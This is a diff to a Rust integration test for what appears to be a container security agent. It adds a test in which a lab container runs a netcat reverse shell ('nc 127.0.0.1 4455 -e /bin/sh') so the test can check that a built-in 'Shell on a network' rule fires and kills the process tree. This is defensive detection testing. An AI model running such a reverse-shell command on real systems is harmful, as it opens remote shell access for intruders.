@@ -6,15 +6,19 @@ mod watched;
 
 use std::path::{Path, PathBuf};
 use std::process::Command;
+use std::sync::atomic::{AtomicBool, Ordering};
 use std::time::{Duration, Instant};
 
 use lazaret_agent::attribute::Directory;
+use lazaret_agent::detect::{BUILT_IN, Engine};
 use lazaret_agent::respond::{Action, Hands, ResponseConfig, in_force, undo};
 use lazaret_agent::trail::{Entries, Trail};
+use lazaret_agent::watch::{Snapshot, Watch};
 use model::{
     Alert, AlertSource, AuditKind, AuditOutcome, AuditRecord, ContainerRef, Initiator, Priority,
     ProcessId,
 };
+use sensor::SensorOptions;
 use watched::Lab;
 
 /// The hands with what they told, and their state folder.
@@ -82,7 +86,7 @@ impl Bench {
 }
 
 fn socket(lab: &Lab) -> PathBuf {
-    lab.folder.path().join("sock")
+    lab.folder.path().join("docker.sock")
 }
 
 fn container(lab: &Lab, name: &str, script: &str) -> String {
@@ -412,6 +416,42 @@ fn a_program_that_is_not_in_the_image_does_not_start() {
     assert!(!exec(&lab, &victim, "/tmp/busybox true"));
     undo(&bench.state, &bench.engine, &id).unwrap();
     eventually("the agent reads that it is undone", || exec(&lab, &victim, "/tmp/busybox true"));
+}
+
+/// From the act in the kernel to the end of the process, with the built-in rules.
+#[test]
+fn a_reverse_shell_ends_by_its_alert() {
+    let Some(lab) = Lab::start() else { return };
+    let rule = "{name: end, when: {rules: ['Shell on a network*']}, action: kill, tree: true}";
+    let bench = Bench::with(lab.folder.path(), Path::new("/nowhere"), &format!("rules: [{rule}]"));
+    let rules = Engine::load(&[BUILT_IN]);
+    let watch = Watch::load(&SensorOptions::default()).unwrap();
+    let stop = AtomicBool::new(false);
+    let script = "(sleep 401 | nc -l -p 4455) & sleep 1; nc 127.0.0.1 4455 -e /bin/sh";
+    let twin = container(&lab, "twin", "sleep 402 | sh & sleep 403; true");
+    std::thread::scope(|scope| {
+        let watching = scope.spawn(|| {
+            watch.run(&rules, Snapshot::of_host(), &stop, |seen| {
+                for detection in &seen.detections {
+                    if seen.observed.container.is_some_and(|it| it.name == "victim") {
+                        bench.hands.answer(&seen.alert(detection));
+                    }
+                }
+            })
+        });
+        let victim = container(&lab, "victim", script);
+        let mut told = Vec::new();
+        eventually("it is answered", || {
+            told.extend(bench.records());
+            !told.is_empty()
+        });
+        assert_eq!(told[0].outcome, AuditOutcome::Success, "{}", told[0].text);
+        assert_eq!(told[0].container.as_ref().unwrap().id, victim);
+        eprintln!("ended {} ms after the act", told[0].details["milliseconds_after_the_act"]);
+        stop.store(true, Ordering::Relaxed);
+        watching.join().unwrap().unwrap();
+    });
+    assert_eq!(processes(&lab, &twin).len(), 4);
 }
 
 #[test]
